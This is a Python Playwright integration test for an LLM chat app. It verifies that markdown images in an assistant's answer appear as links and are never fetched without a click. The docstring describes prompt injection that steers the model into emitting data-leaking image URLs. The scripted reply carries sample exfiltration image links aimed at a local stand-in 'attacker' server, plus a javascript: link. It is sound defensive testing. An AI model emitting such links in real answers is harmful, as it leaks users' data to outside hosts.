"""Images in answers, in Chromium: shown as links, never fetched without a click.

A record can hold text that steers the model into answering with
`![](https://attacker/?data=…)`; if the browser loaded it, base data would leave
with no one clicking anything. A local server stands in for the attacker's host
and counts every request it gets.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from tests.fakes.llm import Reply
from tests.integration.accounts import new_account, onboard
from tests.support.seeds import app_tokens

MODEL = "scripted"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


class _Hits(ThreadingHTTPServer):
    paths: list[str]


class _CountingHandler(BaseHTTPRequestHandler):
    server: _Hits

    def do_GET(self) -> None:
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PIXEL)))
        self.end_headers()
        self.wfile.write(PIXEL)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[_Hits]:
    """An image host on loopback that records every path requested from it."""
    server = _Hits(("127.0.0.1", 0), _CountingHandler)
    server.paths = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_images_in_an_answer_are_links_and_are_not_fetched(
    app_server, mailbox, page: Page, app_airtable, app_llm, unique_email, attacker
) -> None:
    host = f"http://127.0.0.1:{attacker.server_address[1]}"
    new_account(page, app_server.url, mailbox, unique_email)
    onboard(page, app_tokens(app_airtable).full, "Emulator Projects")
    # The page has loaded its conversation and bases: a question now is not reset.
    expect(page.get_by_role("combobox", name="Base")).to_have_text("Emulator Projects")
    app_llm.clear()
    app_llm.queue(
        Reply(
            content=(
                f"Here is the chart ![chart of sales]({host}/exfil.png?data=secret-deal) "
                f"and ![]({host}/bare.png?data=more) and a ![reference image][pic] "
                "and [a script](javascript:window.__ran=1) at the end.\n\n"
                f"[pic]: {host}/ref.png?data=third"
            )
        ),
        model=MODEL,
    )
    box = page.get_by_role("textbox", name="Message")
    box.fill("Show me the sales chart")
    box.press("Enter")
    expect(page.locator(".user-message")).to_have_text("Show me the sales chart")
    answer = page.locator(".assistant-message").last
    expect(answer).to_contain_text("at the end", timeout=30_000)

    # Every image the page holds has loaded (or failed) once this resolves.
    page.evaluate("Promise.all([...document.images].map((i) => i.decode().catch(() => null)))")
    assert attacker.paths == [], "the answer's images were fetched without a click"
    assert answer.locator("img").count() == 0

    expect(answer.get_by_role("link", name="chart of sales")).to_be_visible()
    expect(answer.get_by_role("link", name="reference image")).to_be_visible()
    # Without alt text the link shows where it leads.
    expect(answer.get_by_role("link", name=f"{host}/bare.png?data=more")).to_be_visible()
    # The URL is shown beside the alt text, so the user sees where a click would go.
    expect(answer).to_contain_text(f"{host}/exfil.png?data=secret-deal")
    # `javascript:` links stay blocked.
    assert answer.locator("[href^='javascript']").count() == 0
    assert attacker.paths == []
    # Long URLs wrap on a phone instead of making the page scroll sideways.
    page.set_viewport_size({"width": 375, "height": 800})
    expect(answer.get_by_role("link", name="chart of sales")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
